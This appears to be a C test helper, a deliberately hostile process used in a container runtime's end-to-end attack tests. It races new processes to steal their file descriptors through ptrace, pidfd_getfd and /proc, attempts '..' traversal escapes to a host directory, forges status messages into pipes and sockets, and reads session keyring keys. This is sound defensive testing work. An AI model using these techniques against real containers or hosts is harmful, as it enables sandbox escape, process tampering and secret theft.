/* A hostile process for the end-to-end attack tests, built with `gcc -static` and copied into a container.
 *
 *   attacker grab LOG MARKER    race new pids: PTRACE_SEIZE, pidfd_getfd and open("/proc/N/fd/K") of their
 *                               fds 0..63; log every fd obtained; "ESCAPE" for a directory fd or one through
 *                               which `..` reaches /tmp/MARKER; write a forged status into pipes (a JSON
 *                               event line) and sockets (a start-failure record: "command not found").
 *   attacker keep LOG MARKER    race new pids and keep copies of their sockets and pipes past stdio open.
 *   attacker stop LOG MARKER    SIGSTOP each new pid, list and open its /proc/N/fd links, SIGCONT it.
 *   attacker hold DIR COMM      SIGSTOP the first new pid whose comm is not COMM (not yet exec'd), write its
 *                               pid to DIR/held and its fd links to DIR/fds, SIGCONT it once DIR/release exists.
 *   attacker socket FAMILY      socket(FAMILY, SOCK_STREAM, 0): prints "socket FAMILY: ok" or the error.
 *   attacker keys DESC [NEW VAL]  print the session keyring ("session ID DESCRIPTION"), every key in it ("key
 *                               DESCRIPTION PAYLOAD"), what a search of the possessed keyrings finds for user key
 *                               DESC ("found PAYLOAD" or "search: ERROR"); with NEW, first add user key NEW=VAL
 *                               to the session keyring ("added NEW" or "add: ERROR").
 *
 * Every racing mode stops after DIR/LOG's "stop" file (LOG.stop) appears.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static FILE *logf;
static const char *marker;
static char stop_path[4096];

static void logline(const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    vfprintf(logf, fmt, ap);
    va_end(ap);
    fputc('\n', logf);
    fflush(logf);
}

static int last_pid(void) {
    char buf[32];
    int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return -1;
    buf[n] = 0;
    return atoi(buf);
}

static const char *kind(mode_t m) {
    switch (m & S_IFMT) {
    case S_IFDIR: return "dir";
    case S_IFREG: return "reg";
    case S_IFSOCK: return "sock";
    case S_IFIFO: return "fifo";
    case S_IFCHR: return "chr";
    case S_IFBLK: return "blk";
    case S_IFLNK: return "lnk";
    default: return "other";
    }
}

/* Logs what `fd` (obtained from pid p's descriptor k by `how`) is, and tries to use it to reach the host. */
static void inspect(int fd, int p, int k, const char *how, const char *link) {
    struct stat st;
    if (fstat(fd, &st) != 0) return;
    const char *t = kind(st.st_mode);
    /* A pty master is the character device 5:2 (ptmx), a slave is 136+:N. */
    logline("GOT %s pid=%d fd=%d type=%s rdev=%u:%u link=%s", how, p, k, t, major(st.st_rdev), minor(st.st_rdev),
            link ? link : "?");
    if (S_ISDIR(st.st_mode)) {
        logline("ESCAPE directory fd pid=%d fd=%d link=%s", p, k, link ? link : "?");
        char rel[4096];
        snprintf(rel, sizeof rel, "../../../../../../../../../../../../../../../tmp/%s", marker);
        int m = openat(fd, rel, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (m >= 0) {
            logline("ESCAPE host marker reached through pid=%d fd=%d", p, k);
            close(m);
        }
        DIR *d = fdopendir(dup(fd));
        if (d) {
            struct dirent *e;
            int shown = 0;
            while ((e = readdir(d)) && shown < 40) {
                logline("LIST pid=%d fd=%d %s", p, k, e->d_name);
                shown++;
            }
            closedir(d);
        }
    }
    if (S_ISFIFO(st.st_mode)) {
        /* The old helper's event pipe took JSON lines: try to forge an exit status of 42. */
        static const char forged[] = "{\"finished\":{\"status\":\"exited\",\"code\":42}}\n";
        int fl = fcntl(fd, F_GETFL);
        if (fl >= 0) fcntl(fd, F_SETFL, fl | O_NONBLOCK);
        if (write(fd, forged, sizeof forged - 1) > 0) logline("FORGED pid=%d fd=%d type=%s", p, k, t);
    }
    if (S_ISSOCK(st.st_mode)) {
        /* A child's start report (container/src/error.rs Stage::Exec = 4, errno ENOENT): "command not found",
         * exit 127. Any well-formed record forges a start failure. */
        int rec[2] = {4, ENOENT};
        if (send(fd, rec, sizeof rec, MSG_DONTWAIT | MSG_NOSIGNAL) > 0) logline("FORGED pid=%d fd=%d type=%s", p, k, t);
    }
}

static int stopped(void) { return access(stop_path, F_OK) == 0; }

static int read_comm(int p, char *out, size_t len) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/comm", p);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    ssize_t n = read(fd, out, len - 1);
    close(fd);
    if (n <= 0) return -1;
    out[n] = 0;
    if (n > 0 && out[n - 1] == '\n') out[n - 1] = 0;
    return 0;
}

static void grab(int p) {
    int seized = ptrace(PTRACE_SEIZE, p, 0, 0) == 0;
    if (seized) {
        char c[64] = "?";
        read_comm(p, c, sizeof c);
        logline("SEIZED pid=%d comm=%s", p, c);
    }
    int pfd = syscall(SYS_pidfd_open, p, 0);
    if (pfd < 0 && errno == ESRCH && !seized) return; /* not born yet */
    if (pfd >= 0) {
        for (int k = 0; k < 64; k++) {
            int fd = syscall(SYS_pidfd_getfd, pfd, k, 0);
            if (fd >= 0) {
                inspect(fd, p, k, "getfd", NULL);
                close(fd);
            }
        }
        close(pfd);
    }
    for (int k = 0; k < 64; k++) {
        char path[64], link[4096];
        snprintf(path, sizeof path, "/proc/%d/fd/%d", p, k);
        ssize_t n = readlink(path, link, sizeof link - 1);
        if (n < 0) continue;
        link[n] = 0;
        logline("LINK pid=%d fd=%d %s", p, k, link);
        int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
        if (fd >= 0) {
            inspect(fd, p, k, "open", link);
            close(fd);
        }
    }
    if (seized) {
        ptrace(PTRACE_INTERRUPT, p, 0, 0);
        int st = 0, sig = 0;
        for (int i = 0; i < 1000; i++) {
            int r = waitpid(p, &st, __WALL | WNOHANG);
            if (r == p) break;
            if (r < 0) return;
            struct timespec ts = {0, 1000000};
            nanosleep(&ts, NULL);
        }
        if (WIFEXITED(st) || WIFSIGNALED(st)) return;
        /* A signal-delivery stop carries the signal: hand it back. */
        if (WIFSTOPPED(st) && (st >> 16) == 0 && WSTOPSIG(st) != SIGTRAP) sig = WSTOPSIG(st);
        ptrace(PTRACE_DETACH, p, 0, sig);
    }
}

/* Takes copies of the pid's sockets past stdio and keeps them open (never closed, never written). A kept stdio
 * pipe would hold the session open in docker exec and runc exec too, so stdio is left alone. */
static void keep(int p) {
    int pfd = syscall(SYS_pidfd_open, p, 0);
    if (pfd < 0) return;
    for (int k = 3; k < 64; k++) {
        int fd = syscall(SYS_pidfd_getfd, pfd, k, 0);
        if (fd < 0) continue;
        struct stat st;
        if (fstat(fd, &st) == 0 && (S_ISSOCK(st.st_mode) || S_ISFIFO(st.st_mode))) {
            logline("KEPT pid=%d fd=%d type=%s", p, k, kind(st.st_mode));
            continue;
        }
        close(fd);
    }
    close(pfd);
}

/* Logs the comm and the effective capabilities of pid p (from /proc/p/status). */
static void log_status(int p) {
    char path[64], line[256], comm[64] = "?", capeff[64] = "?", uid[64] = "?";
    snprintf(path, sizeof path, "/proc/%d/status", p);
    FILE *f = fopen(path, "r");
    if (!f) return;
    while (fgets(line, sizeof line, f)) {
        line[strcspn(line, "\n")] = 0;
        if (strncmp(line, "Name:\t", 6) == 0) snprintf(comm, sizeof comm, "%.60s", line + 6);
        if (strncmp(line, "CapEff:\t", 8) == 0) snprintf(capeff, sizeof capeff, "%.60s", line + 8);
        if (strncmp(line, "Uid:\t", 5) == 0) snprintf(uid, sizeof uid, "%.60s", line + 5);
    }
    fclose(f);
    for (char *c = uid; *c; c++)
        if (*c == '\t') *c = ',';
    logline("STATUS pid=%d comm=%s CapEff=%s Uid=%s", p, comm, capeff, uid);
}

static void stop_and_list(int p) {
    if (kill(p, SIGSTOP) != 0) return;
    logline("STOPPED pid=%d", p);
    log_status(p);
    for (int k = 0; k < 64; k++) {
        char path[64], link[4096];
        snprintf(path, sizeof path, "/proc/%d/fd/%d", p, k);
        ssize_t n = readlink(path, link, sizeof link - 1);
        if (n < 0) {
            if (errno != ENOENT) logline("NOLINK pid=%d fd=%d %s", p, k, strerror(errno));
            continue;
        }
        link[n] = 0;
        logline("LINK pid=%d fd=%d %s", p, k, link);
        int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
        if (fd >= 0) {
            inspect(fd, p, k, "open", link);
            close(fd);
        }
    }
    kill(p, SIGCONT);
}

static void race(void (*act)(int)) {
    int seen = last_pid();
    while (!stopped()) {
        int last = last_pid();
        if (last < 0) continue;
        if (last == seen) continue;
        for (int p = last + 1; p <= last + 3; p++) act(p);
        /* The newest pids themselves, in case they appeared between two reads. */
        for (int p = seen + 1; p <= last && p > last - 3; p++) act(p);
        seen = last;
    }
}

static int hold(const char *dir, const char *comm) {
    char path[4096], release[4096];
    snprintf(release, sizeof release, "%s/release", dir);
    int seen = last_pid();
    for (;;) {
        int last = last_pid();
        if (last == seen || last < 0) continue;
        for (int p = seen + 1; p <= last + 2; p++) {
            if (kill(p, SIGSTOP) != 0) continue;
            char c[64];
            if (read_comm(p, c, sizeof c) != 0 || strcmp(c, comm) == 0) {
                kill(p, SIGCONT);
                continue;
            }
            snprintf(path, sizeof path, "%s/fds", dir);
            FILE *f = fopen(path, "w");
            for (int k = 0; f && k < 64; k++) {
                char l[64], link[4096];
                snprintf(l, sizeof l, "/proc/%d/fd/%d", p, k);
                ssize_t n = readlink(l, link, sizeof link - 1);
                if (n < 0) {
                    if (errno != ENOENT) fprintf(f, "%d ?%s\n", k, strerror(errno));
                    continue;
                }
                link[n] = 0;
                fprintf(f, "%d %s\n", k, link);
            }
            if (f) fclose(f);
            snprintf(path, sizeof path, "%s/held.tmp", dir);
            f = fopen(path, "w");
            if (f) {
                fprintf(f, "%d %s\n", p, c);
                fclose(f);
            }
            char done[4096];
            snprintf(done, sizeof done, "%s/held", dir);
            rename(path, done);
            while (access(release, F_OK) != 0) {
                struct timespec ts = {0, 10000000};
                nanosleep(&ts, NULL);
            }
            kill(p, SIGCONT);
            return 0;
        }
        seen = last;
    }
}

#define KEYCTL_GET_KEYRING_ID 0
#define KEYCTL_DESCRIBE 6
#define KEYCTL_SEARCH 10
#define KEYCTL_READ 11
#define KEY_SPEC_SESSION_KEYRING -3

static long kc(long op, long a, long b, long c, long d) { return syscall(SYS_keyctl, op, a, b, c, d); }

static void print_key(const char *what, long id) {
    char desc[256] = {0}, payload[256] = {0};
    kc(KEYCTL_DESCRIBE, id, (long)desc, sizeof desc - 1, 0);
    long n = kc(KEYCTL_READ, id, (long)payload, sizeof payload - 1, 0);
    printf("%s %s %s\n", what, desc, n > 0 ? payload : "");
}

static int keys(int argc, char **argv) {
    if (argc == 5) {
        long k = syscall(SYS_add_key, "user", argv[3], argv[4], strlen(argv[4]), KEY_SPEC_SESSION_KEYRING);
        if (k < 0) printf("add: %s\n", strerror(errno));
        else printf("added %s\n", argv[3]);
    }
    long ring = kc(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0, 0, 0);
    char desc[256] = {0};
    kc(KEYCTL_DESCRIBE, ring, (long)desc, sizeof desc - 1, 0);
    printf("session %ld %s\n", ring, desc);
    int ids[256];
    long n = kc(KEYCTL_READ, ring, (long)ids, sizeof ids, 0);
    for (long i = 0; i < n / 4 && i < 256; i++) print_key("key", ids[i]);
    long found = kc(KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, (long)"user", (long)argv[2], 0);
    if (found < 0) printf("search: %s\n", strerror(errno));
    else print_key("found", found);
    return 0;
}

int main(int argc, char **argv) {
    if ((argc == 3 || argc == 5) && strcmp(argv[1], "keys") == 0) return keys(argc, argv);
    if (argc == 3 && strcmp(argv[1], "socket") == 0) {
        int fam = atoi(argv[2]);
        int s = socket(fam, SOCK_STREAM, 0);
        if (s < 0) printf("socket %d: %s\n", fam, strerror(errno));
        else printf("socket %d: ok\n", fam);
        return 0;
    }
    if (argc == 4 && strcmp(argv[1], "hold") == 0) return hold(argv[2], argv[3]);
    if (argc != 4) {
        fprintf(stderr, "usage: attacker grab|keep|stop LOG MARKER | hold DIR COMM | socket FAMILY | keys DESC [NEW VAL]\n");
        return 2;
    }
    logf = fopen(argv[2], "a");
    if (!logf) return 1;
    marker = argv[3];
    snprintf(stop_path, sizeof stop_path, "%s.stop", argv[2]);
    logline("READY");
    if (strcmp(argv[1], "grab") == 0) race(grab);
    else if (strcmp(argv[1], "stop") == 0) race(stop_and_list);
    else if (strcmp(argv[1], "keep") == 0) race(keep);
    else return 2;
    logline("DONE");
    return 0;
}
